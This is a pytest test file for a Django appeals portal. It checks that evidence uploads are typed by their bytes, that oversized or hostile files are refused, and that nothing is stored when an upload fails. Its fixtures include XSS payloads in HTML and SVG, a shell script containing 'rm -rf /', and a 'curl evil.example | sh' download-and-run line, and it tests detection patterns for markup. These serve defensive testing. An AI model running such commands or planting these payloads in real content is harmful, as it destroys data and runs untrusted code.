"""Evidence uploads: type by content, bounded size and count, archives and executables
refused with clear messages, and nothing stored (no row, no file) when anything is refused."""

from __future__ import annotations

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from appeals.evidence import UnsupportedContent, detect_content_type, private_storage
from appeals.models import Appeal, Evidence
from tests.appeals.conftest import stored_files
from tests.appeals.factories import (
    csv_file,
    exe_renamed,
    jpeg,
    pdf,
    png,
    webp,
    xlsx,
    zip_archive,
)


def _post(client, account, change, files):
    client.force_login(account.user)
    return client.post(
        reverse("portal:appeal_new", args=[change.pk]),
        {"reason": "The downgrade ignores our prepaid contract.", "evidence": files},
    )


HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" '
    b'onload="alert(1)"><circle r="4"/></svg>'
)
LETTER = (
    "Dear TierHub team,\n\nour orders in October were delayed by your warehouse move, "
    "so we ordered less.\nThe invoices are attached; 谢谢.\n\nKind regards,\nCarol\n"
).encode()


def text(name: str, body: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, body, "text/plain")


@pytest.mark.parametrize(
    ("upload", "expected"),
    [
        pytest.param(pdf(), "application/pdf", id="pdf"),
        pytest.param(png(), "image/png", id="png"),
        pytest.param(jpeg(), "image/jpeg", id="jpeg"),
        pytest.param(webp(), "image/webp", id="webp"),
        pytest.param(pdf("scan.png"), "application/pdf", id="pdf-named-png"),
        pytest.param(csv_file(), "text/csv", id="csv"),
        pytest.param(
            text("orders.csv", '\ufefforder;amount\r\nA-1;300\r\nA-2;"1,5"\r\n'.encode()),
            "text/csv",
            id="csv-semicolons-bom",
        ),
        pytest.param(text("letter.txt", LETTER), "text/plain", id="letter"),
        pytest.param(text("letter.csv", LETTER), "text/plain", id="letter-named-csv"),
        pytest.param(
            text("note.txt", b"\xef\xbb\xbfA < 5 and 3 > 2."), "text/plain", id="bom-text"
        ),
    ],
)
def test_content_type_comes_from_the_bytes(upload, expected):
    assert detect_content_type(upload) == expected
    assert upload.tell() == 0


MARKUP = "it contains markup or script"


@pytest.mark.parametrize(
    ("upload", "reason"),
    [
        pytest.param(exe_renamed(), "it is an executable program", id="exe"),
        pytest.param(
            SimpleUploadedFile("x.pdf", b"\x7fELF\x02\x01" + b"\x00" * 40),
            "it is an executable program",
            id="elf",
        ),
        pytest.param(
            text("run.csv", b"#!/bin/sh\nrm -rf /,\n"), "it is an executable script", id="sh-csv"
        ),
        pytest.param(
            text("notes.txt", b"\xef\xbb\xbf#!/usr/bin/env python\nprint(1)\n"),
            "it is an executable script",
            id="python-bom-txt",
        ),
        pytest.param(zip_archive(), "archives are not accepted", id="zip"),
        pytest.param(zip_archive("renamed.pdf"), "archives are not accepted", id="zip-as-pdf"),
        pytest.param(
            SimpleUploadedFile("x.pdf", b"\x1f\x8b\x08\x00" + b"\x00" * 20),
            "archives are not accepted",
            id="gzip",
        ),
        pytest.param(xlsx(), "XLSX workbooks are not accepted", id="xlsx"),
        pytest.param(xlsx("renamed.pdf"), "XLSX workbooks are not accepted", id="xlsx-as-pdf"),
        pytest.param(
            SimpleUploadedFile("a.gif", b"GIF89a" + b"\x00" * 20),
            "GIF images are not accepted",
            id="gif",
        ),
        pytest.param(text("page.csv", HTML), f"{MARKUP} (“<!DOCTYPE”)", id="html-csv"),
        pytest.param(text("page.txt", HTML), f"{MARKUP} (“<!DOCTYPE”)", id="html-txt"),
        pytest.param(text("page.png", HTML), f"{MARKUP} (“<!DOCTYPE”)", id="html-png"),
        pytest.param(
            text("x.pdf", b"<html><script>alert(1)</script>"), f"{MARKUP} (“<html”)", id="html-pdf"
        ),
        pytest.param(
            text("a.csv", b"name,comment\nA-1,<script>alert(1)</script>\n"),
            f"{MARKUP} (“<script”)",
            id="script-in-a-csv-cell",
        ),
        pytest.param(text("image.csv", SVG), f"{MARKUP} (“<?xml”)", id="svg-csv"),
        pytest.param(text("image.txt", SVG), f"{MARKUP} (“<?xml”)", id="svg-txt"),
        pytest.param(text("image.png", SVG), f"{MARKUP} (“<?xml”)", id="svg-png"),
        pytest.param(
            text("bare.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
            f"{MARKUP} (“<svg”)",
            id="bare-svg-png",
        ),
        pytest.param(
            text("a.csv", b"a,b\nx,onload=alert(1)\n"), f"{MARKUP} (“onload=”)", id="onload"
        ),
        pytest.param(
            text("a.txt", b"see javascript:alert(1)\n"), f"{MARKUP} (“javascript:”)", id="js-url"
        ),
        pytest.param(
            # Past the first 64 KiB: the whole file is scanned, not just its head.
            text("long.csv", b"a,b\n" + b"1,2\n" * 40_000 + b"3,<svg onload=alert(1)>\n"),
            f"{MARKUP} (“<svg”)",
            id="markup-late-in-the-file",
        ),
        pytest.param(
            # "<script" cut in two by the 64 KiB chunk boundary.
            text("cut.txt", b"x" * (64 * 1024 - 1) + b"<script>"),
            f"{MARKUP} (“<script”)",
            id="markup-across-chunks",
        ),
        pytest.param(
            text("x.csv", b"\x00\x01\x02binary"),
            "it contains binary data (control characters)",
            id="nul",
        ),
        pytest.param(
            text("latin1.txt", "Caf\u00e9 cr\u00e8me\n".encode("latin-1")),
            "it is not a PDF, PNG, JPEG or WebP file, nor UTF-8 text",
            id="not-utf8",
        ),
        pytest.param(
            text("blank.txt", b" \r\n\t\n"), "it contains nothing but blank space", id="blank"
        ),
    ],
)
def test_hostile_content_is_refused_with_a_reason(upload, reason):
    with pytest.raises(UnsupportedContent) as refused:
        detect_content_type(upload)
    assert reason in refused.value.reason
    assert upload.tell() == 0


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("files", "message"),
    [
        pytest.param([exe_renamed()], "it is an executable program", id="exe-renamed-pdf"),
        pytest.param([zip_archive("evidence.pdf")], "archives are not accepted", id="zip-as-pdf"),
        pytest.param([zip_archive()], "archives are not accepted", id="zip"),
        pytest.param([pdf(size=6 * 1024 * 1024)], "is too large", id="oversized"),
        pytest.param([pdf(f"p{i}.pdf") for i in range(6)], "at most 5 files", id="six-files"),
        pytest.param([pdf(), exe_renamed("second.pdf")], "second.pdf", id="one-bad-of-two"),
        pytest.param(
            [text("orders.csv", HTML)],
            "“orders.csv” was refused: it contains markup or script (“&lt;!DOCTYPE”); HTML, SVG "
            "and scripts are not accepted. Accepted: PDF, PNG, JPEG, WebP, plain text (UTF-8) and "
            "CSV.",
            id="html-as-csv",
        ),
        pytest.param(
            [text("photo.png", SVG)],
            "“photo.png” was refused: it contains markup or script (“&lt;?xml”)",
            id="svg-as-png",
        ),
        pytest.param(
            [text("notes.txt", b"#!/bin/sh\ncurl evil.example | sh\n")],
            "“notes.txt” was refused: it is an executable script (#!).",
            id="script-as-txt",
        ),
        pytest.param(
            [xlsx()],
            "“orders.xlsx” was refused: XLSX workbooks are not accepted; save the sheet as CSV "
            "or PDF.",
            id="xlsx",
        ),
    ],
)
def test_hostile_uploads_are_refused_and_nothing_is_stored(
    client, carol, carols_change, private_root, files, message
):
    response = _post(client, carol, carols_change, files)

    assert response.status_code == 200  # the form again, with the error
    assert message in response.content.decode()
    assert not Appeal.objects.exists()
    assert not Evidence.objects.exists()
    assert stored_files(private_root) == []


@pytest.mark.django_db
def test_good_uploads_are_stored_privately_under_random_names(
    client, carol, carols_change, private_root
):
    files = [pdf(), png(), csv_file(), text("letter.txt", LETTER)]

    response = _post(client, carol, carols_change, files)

    appeal = Appeal.objects.get()
    assert response.status_code == 302
    assert response["Location"] == reverse("portal:appeal_detail", args=[appeal.pk])
    evidence = list(appeal.evidence.order_by("id"))
    assert [(e.original_name, e.content_type) for e in evidence] == [
        ("invoice.pdf", "application/pdf"),
        ("photo.png", "image/png"),
        ("orders.csv", "text/csv"),
        ("letter.txt", "text/plain"),
    ]
    files = stored_files(private_root)
    assert len(files) == 4
    for item in evidence:
        assert "invoice" not in item.stored_name
        assert "." not in item.stored_name.split("/")[-1]
        assert (private_root / item.stored_name).exists()
    assert oct(files[0].stat().st_mode & 0o777) == "0o600"


def test_private_storage_has_no_url():
    with pytest.raises(ValueError, match="no URL"):
        private_storage.url("evidence/abc")
    assert private_storage.base_url is None


@pytest.mark.django_db
def test_a_failure_after_storing_removes_the_files(carol, carols_change, private_root, monkeypatch):
    from appeals import services

    def boom(**kwargs):
        raise RuntimeError("database went away")

    monkeypatch.setattr(services, "_event_record", boom)

    with pytest.raises(RuntimeError):
        services.appeal_file(
            customer=carol.customer,
            change_id=carols_change.pk,
            reason="r",
            files=[pdf(), io.BytesIO(b"%PDF-1.7 raw stream")],
            by=carol.user,
        )

    assert not Appeal.objects.exists()
    assert stored_files(private_root) == []


@pytest.mark.django_db
def test_an_oversized_file_is_dropped_while_uploading(client, carol, carols_change, settings):
    settings.APPEAL_EVIDENCE_MAX_BYTES = 1000

    response = _post(client, carol, carols_change, [pdf("big.pdf", size=400_000), png()])

    assert "“big.pdf” is too large (the limit is 1000\xa0bytes)." in response.content.decode()
    assert not Appeal.objects.exists()


@pytest.mark.django_db
def test_the_appeal_form_still_checks_csrf(carol, carols_change):
    from django.test import Client

    client = Client(enforce_csrf_checks=True)
    client.force_login(carol.user)

    response = client.post(
        reverse("portal:appeal_new", args=[carols_change.pk]), {"reason": "r", "evidence": [pdf()]}
    )

    assert response.status_code == 403
    assert not Appeal.objects.exists()
